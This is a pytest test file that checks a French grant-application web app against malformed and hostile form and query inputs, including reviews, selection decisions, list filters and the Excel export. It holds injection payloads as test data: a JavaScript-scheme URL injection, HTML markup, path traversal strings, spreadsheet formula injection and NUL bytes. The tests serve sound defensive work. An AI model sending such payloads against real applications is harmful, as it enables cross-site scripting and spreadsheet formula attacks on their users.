@pytest.mark.parametrize("score", NOT_NUMBERS + ["99", "3.5", HTML])
def test_review_scores(clients, w, score):
    response = post(clients("reviewer_unassigned"), f"/evaluation/dossiers/{w.other_application.id}",
                    review_data(w.call, score=score))
    # Scores are radio buttons (or a select): a forged value cannot be shown back, only refused.
    check_error_shown(check_safe(response, [], []))


def test_review_comment_too_long_per_criterion(clients, w):
    response = post(clients("reviewer_unassigned"), f"/evaluation/dossiers/{w.other_application.id}",
                    review_data(w.call, criterion_comment=LONG))
    check_error_shown(check_safe(response, ["Le commentaire est trop long."], [LONG]))


@pytest.mark.parametrize("reason, status", [("", 400), ("x" * 2001, 400), (LONG, 400)])
def test_conflict_declared_on_opening_a_file(clients, w, reason, status):
    response = post(clients("reviewer_assigned"), f"/evaluation/dossiers/{w.other_application.id}/liens-d-interets",
                    {"action": "conflict", "reason": reason})
    check_safe(response, statuses=(status,))
    assert "Précisez la nature du lien" in html.unescape(response.get_data(as_text=True)) or reason


@pytest.mark.parametrize("data", [
    {"action": "add", "add-association_id": "abc", "add-reason": "Lien"},
    {"action": "add", "add-association_id": "-1", "add-reason": "Lien"},
    {"action": "add", "add-association_id": "99999999999999999999", "add-reason": "Lien"},
    {"action": "add", "add-association_id": "1", "add-reason": ""},
    {"action": "add", "add-association_id": "1", "add-reason": LONG},
    {"action": "remove", "remove-conflict_id": "abc", "remove-reason": "x"},
    {"action": "remove", "remove-conflict_id": "1", "remove-reason": ""},
    {"action": "détruire"},
])
def test_reviewer_conflicts_page(clients, w, data):
    client = clients("reviewer_unassigned")  # (its first use logs in, which is recorded)
    before = fs.table_counts()
    response = post(client, "/evaluation/liens-d-interets", data)
    check_safe(response, statuses=(302, 400, 404))
    assert fs.table_counts() == before


@pytest.mark.parametrize("query", ["q=" + "x" * 10_000, "q=%00", "q=%25", "q=_", "q=" + HTML, "q=%ff%fe"])
def test_reviewer_association_search(clients, query):
    response = clients("reviewer_unassigned").get("/evaluation/liens-d-interets?" + query)
    check_safe(response)


@pytest.mark.parametrize("data", [
    {"application_id": "abc", "reviewer_id": "1"}, {"application_id": "1", "reviewer_id": "abc"},
    {"application_id": "99999999999999999999", "reviewer_id": "1"}, {"application_id": "", "reviewer_id": ""},
])
@pytest.mark.parametrize("action", ["ajouter", "retirer"])
def test_assignment_forms(clients, w, data, action):
    client = clients("staff")  # (its first use logs in, which is recorded)
    before = fs.table_counts()
    response = post(client, f"/instruction/appels/{w.call.id}/affectations/{action}", data)
    assert response.status_code in (302, 400, 404)
    no_markup(response.get_data(as_text=True))
    assert fs.table_counts() == before


def test_assigning_a_non_reviewer_is_refused(clients, w):
    client = clients("staff")  # (its first use logs in, which is recorded)
    before = fs.table_counts()
    response = post(client, f"/instruction/appels/{w.call.id}/affectations/ajouter",
                    {"application_id": str(w.c_file.id), "reviewer_id": str(w.owner.id)})
    assert response.status_code in (302, 400, 404)
    assert fs.table_counts() == before


@pytest.mark.parametrize("reason", ["", LONG])
def test_reopening_a_review(clients, w, reason):
    response = post(clients("staff"), f"/instruction/evaluations/{w.review.id}/rouvrir", {"reason": reason},
                    follow_redirects=True)
    check_safe(response, ["Indiquez pourquoi" if not reason else "Le texte est trop long."])
    db.session.expire_all()
    assert db.session.get(Review, w.review.id).status == "submitted"


# --- selection ----------------------------------------------------------------------------------

def decision_url(w, index=0):
    return f"/selection/appels/{w.open_call.id}/dossiers/{w.ranked[index].id}"


@pytest.mark.parametrize("changes, errors", [
    ({"outcome": "annulé"}, ["Choisissez une décision."]),
    ({"outcome": "rejected", "reason": ""}, ["Indiquez le motif de non-sélection"]),
    ({"outcome": "rejected", "reason": LONG}, []),
    ({"amount_per_year-0": "1", "amount_per_year-1": "2", "amount_per_year-2": "3"}, ["La somme des montants annuels"]),
    ({"amount_per_year-0": "abc", "amount_per_year-1": "", "amount_per_year-2": ""}, ["Année 1"]),
] + [({"amount": v}, []) for v in NOT_NUMBERS + ["1e400", "0", "-1"]])
def test_decision_form(clients, w, changes, errors):
    from aap.models import Decision
    data = {"outcome": "selected", "amount": "60 000", "reason": "", **changes}
    response = post(clients("staff"), decision_url(w), data)
    page = check_safe(response, errors, statuses=(200, 400))
    check_error_shown(page)
    assert db.session.scalar(db.select(Decision).where(Decision.application_id == w.ranked[0].id)) is None


@pytest.mark.parametrize("data", [
    {"outcome": "selected", "application_ids": ["abc", "-1", "99999999999999999999"]},
    {"outcome": "volé", "application_ids": []},
    {"outcome": "rejected", "reason": "", "application_ids": ["1"]},
    {"outcome": "selected", "application_ids": []},
])
def test_bulk_decisions(clients, w, data):
    from aap.models import Decision
    data = dict(data)
    data["application_ids"] = [str(w.ranked[1].id) if v == "1" else v for v in data["application_ids"]]
    response = post(clients("staff"), f"/selection/appels/{w.open_call.id}/decisions/lot", data,
                    follow_redirects=True)
    check_safe(response)
    assert db.session.scalar(db.select(db.func.count(Decision.id)).where(
        Decision.application_id.in_([a.id for a in w.ranked]))) == 0


def test_bulk_decision_on_a_file_of_another_call_changes_nothing(clients, w):
    from aap.models import Decision
    response = post(clients("staff"), f"/selection/appels/{w.open_call.id}/decisions/lot",
                    {"outcome": "rejected", "reason": "x", "application_ids": [str(w.c_file.id)]},
                    follow_redirects=True)
    check_safe(response)
    assert db.session.scalar(db.select(Decision).where(Decision.application_id == w.c_file.id)) is None


@pytest.mark.parametrize("query", [
    "calculer=1&min_per_region=abc", "calculer=1&min_per_region=-1", "calculer=1&min_per_region=1e9",
    "calculer=1&cap_percent=200", "calculer=1&cap_percent=abc", "calculer=1&min_score=25", "calculer=1&min_score=NaN",
    "calculer=1&min_score=" + "9" * 400, "calculer=1&_method=x&_anchor=y",
])
def test_selection_proposal_settings(clients, w, query):
    response = clients("staff").get(f"/selection/appels/{w.open_call.id}/proposition?{query}")
    check_safe(response)


@pytest.mark.parametrize("data", [{"entrer": ["abc"]}, {"entrer": ["999999"], "sortir": ["-1"]}, {}])
def test_applying_a_forged_proposal(clients, w, data):
    from aap.models import Decision
    response = post(clients("staff"), f"/selection/appels/{w.open_call.id}/proposition/appliquer", data,
                    follow_redirects=True)
    check_safe(response)
    assert db.session.scalar(db.select(db.func.count(Decision.id)).where(
        Decision.application_id.in_([a.id for a in w.ranked]))) == 0


# --- list pages: odd query strings ------------------------------------------------------------

@pytest.mark.parametrize("query", [
    "etat=%00", "etat=" + HTML, "region=../..", "montant_min=abc", "montant_min=-1&montant_max=1e400",
    "montant_min=50&montant_max=10", "tri=drop&ordre=sideways", "page=abc", "page=-1", "page=99999999999999999999",
    "_method=x", "_anchor=%0Aalert(1)&_external=1&_scheme=javascript", "montant_min=" + "9" * 10_000,
    "page=%C2%B2", "page=" + "9" * 5000,
])
def test_staff_list_filters(clients, w, query):
    response = clients("staff").get(f"/instruction/appels/{w.call.id}/dossiers?{query}")
    check_safe(response)
    assert "javascript:" not in response.get_data(as_text=True)


@pytest.mark.parametrize("query", [
    "seuil=abc", "seuil=-5", "seuil=1e400", "tri=drop", "region=%00", "departement=" + HTML, "etat=../",
    "recommandation=x", "page=abc", "_method=x", "_anchor=y&_external=1", "page=%C2%B2", "seuil=" + "9" * 5000,
])
def test_ranking_filters(clients, w, query):
    check_safe(clients("staff").get(f"/selection/appels/{w.call.id}?{query}"))


# --- formulas never reach the workbook as formulas ---------------------------------------------

def test_formula_text_is_neutralised_in_the_excel_export(bad_app, clients, w):
    """Text typed in forms (review comments), stored before names were refused at input (an
    association's name: see test_injection_and_exports.py) or set by staff (criteria, names)
    that looks like a formula is a plain text cell of the workbook, shown with a quote prefix."""
    owner_association = db.session.get(Association, w.owner.association_id)
    owner_association.name = FORMULAS[0]
    db.session.commit()
    data = review_data(w.call, score="2", criterion_comment=FORMULAS[2], action="submit", recommendation="reserve",
                       comment=FORMULAS[3])
    response = post(clients("reviewer_unassigned"), f"/evaluation/dossiers/{w.other_application.id}", data)
    assert response.status_code == 302
    response = post(clients("reviewer_unassigned"), f"/evaluation/dossiers/{w.other_application.id}/envoi", {})
    assert response.status_code == 302  # « Confirmer l'envoi »
    submitted = db.session.scalar(db.select(Review).where(Review.application_id == w.other_application.id,
                                                          Review.reviewer_id == w.reviewer_unassigned.id))
    assert submitted is not None and submitted.status == "submitted", re.findall(r"fr-alert.{0,400}", clients(
        "reviewer_unassigned").get(response.headers["Location"]).get_data(as_text=True), re.S)
    criterion = db.session.get(Criterion, w.call.criteria[0].id)
    criterion.label = FORMULAS[1]
    reviewer = db.session.get(User, w.reviewer_unassigned.id)
    reviewer.first_name = "@SUM(A1:A9)"
    staff = db.session.get(User, w.staff.id)  # the author of the export
    staff.first_name = FORMULAS[3]
    db.session.commit()

    response = clients("staff").get(f"/instruction/appels/{w.call.id}/export.xlsx")
    assert response.status_code == 200
    from openpyxl import load_workbook
    workbook = load_workbook(io.BytesIO(response.data))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(f in cell.value for f in FORMULAS + ["@SUM(A1:A9)"]):
                    found.setdefault(cell.value, []).append(cell)
    for text in FORMULAS + ["@SUM(A1:A9)"]:
        assert any(text in value for value in found), f"{text!r} not exported"
    for text, cells in found.items():
        for cell in cells:
            assert cell.data_type == "s", (text, cell.coordinate)
            assert text.startswith(("=", "+", "-", "@")), text  # each reaches a cell as its first characters
            if text.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix, (text, cell.coordinate)
    # No formula in the file: the totals are written as values (issue 17 §11).
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        formulas = [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                    for f in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())]
    assert formulas == [], formulas


# --- NUL bytes: dropped from what is posted (PostgreSQL refuses them in text) -------------------

def test_nul_bytes_never_reach_the_database(clients, w):
    """Each of these used to answer 500 on PostgreSQL (« text fields cannot contain NUL »)."""
    association = db.session.get(Association, w.leaver.association_id)
    late = factories.submitted_file(w.call, fi.association("Association E"))
    cases = [
        ("leaver", "/association", {**identity_data(association), "name": "Association\x00 D", "commune": "\x00"}),
        ("staff", f"/dossiers/{w.c_file.id}/messages", {"message_body": "Bonjour\x00 à vous"}),
        ("staff", "/equipe/inviter", {"email": "nul@example.org", "first_name": "Ni\x00na", "last_name": "N\x00",
                                      "role": "reviewer", "region_code": ""}),
        ("staff", f"/instruction/dossiers/{late.id}/irrecevable", {"inadmissible_reason": "Hors\x00 délai",
                                                                    "inadmissible_confirmed": "1"}),
    ]
    for persona, url, data in cases:
        response = post(clients(persona), url, data)
        assert response.status_code in (200, 302, 303), (url, response.status_code)
    db.session.expire_all()
    assert db.session.get(Association, w.leaver.association_id).name == "Association D"
    assert db.session.scalar(db.select(Message).where(Message.body == "Bonjour à vous")) is not None
    assert db.session.scalar(db.select(User).where(User.email == "nul@example.org")).first_name == "Nina"
    assert db.session.get(Application, late.id).status == "inadmissible"
    for persona, url in [("reviewer_unassigned", "/evaluation/liens-d-interets?q=Asso%00ciation"),
                         ("admin", "/administration/journal?acteur=agent%00&action=export%00"),
                         ("anonymous", "/appels/aap-matrice%00"), ("staff", "/appels/%00"),
                         ("staff", f"/instruction/appels/{w.call.id}/dossiers?etat=submitted%00")]:
        response = clients(persona).get(url)
        assert response.status_code in (200, 404), (url, response.status_code)
